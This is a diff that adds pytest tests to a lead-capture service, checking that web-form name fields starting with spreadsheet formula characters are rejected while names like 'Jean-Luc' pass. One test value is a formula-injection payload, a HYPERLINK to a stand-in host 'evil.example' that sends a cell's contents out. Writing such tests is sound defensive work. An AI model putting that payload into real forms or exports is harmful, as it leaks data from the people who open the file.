@@ -179,6 +179,34 @@ def test_bad_form_posts_change_nothing(
     assert sales.outbox() == []
 
 
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("firstName", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
+        ("lastName", "@SUM(A1:A9)"),
+        ("companyName", "+1+1"),
+        ("firstName", "-2+3"),
+        ("lastName", "\t=1+1"),
+    ],
+)
+def test_a_form_name_that_a_spreadsheet_would_run_is_refused_as_that_field(
+    sales: Sales, admin: Principal, name: str, value: str
+) -> None:
+    with pytest.raises(DomainError) as error:
+        sales.capture_form("website", {"email": "web@example.com", name: value})
+    assert [(p.field, p.code) for p in error.value.problems] == [(name, ErrorCode.INVALID)]
+    assert sales.outbox() == []
+    assert sales.read_leads.count(admin, LeadFilter()) == 0
+
+
+def test_names_with_formula_characters_inside_them_are_welcome(sales: Sales) -> None:
+    lead = sales.capture_form(
+        "website",
+        {"email": "web@example.com", "firstName": "Jean-Luc", "lastName": "O'Brien+Co"},
+    )
+    assert (lead.profile.first_name, lead.profile.last_name) == ("Jean-Luc", "O'Brien+Co")
+
+
 def test_an_unknown_team_is_not_found(sales: Sales, admin: Principal) -> None:
     with pytest.raises(NotFound):
         sales.create_lead(admin, NewLead(email="a@example.com", team_id="nope"))
